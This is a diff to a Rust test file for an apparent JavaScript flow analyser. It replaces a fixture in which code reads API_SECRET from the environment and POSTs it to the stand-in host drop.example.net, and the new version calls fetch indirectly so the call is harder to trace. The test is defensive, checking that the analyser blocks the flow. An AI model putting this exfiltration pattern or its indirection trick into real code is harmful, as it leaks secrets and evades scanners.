@@ -130,9 +130,8 @@ fn a_call_that_is_reached_by_another_name_is_found() {
 #[test]
 fn a_flow_whose_way_is_not_known_says_so() {
     let finding = judged(
-        "const s = process.env.API_SECRET; const { port1, port2 } = new MessageChannel();\n\
-         port2.onmessage = (event) => fetch('https://drop.example.net/', { method: 'POST', body: event.data });\n\
-         port1.postMessage(s);",
+        "const s = process.env.API_SECRET; const send = Object.getOwnPropertyDescriptor(globalThis, 'fetch').value;\n\
+         await send('https://drop.example.net/', { method: 'POST', body: s });",
     );
     assert_eq!(finding.decision.verdict, Verdict::Block);
     let says_so = |text: &str| text.contains("by a way that is not followed");
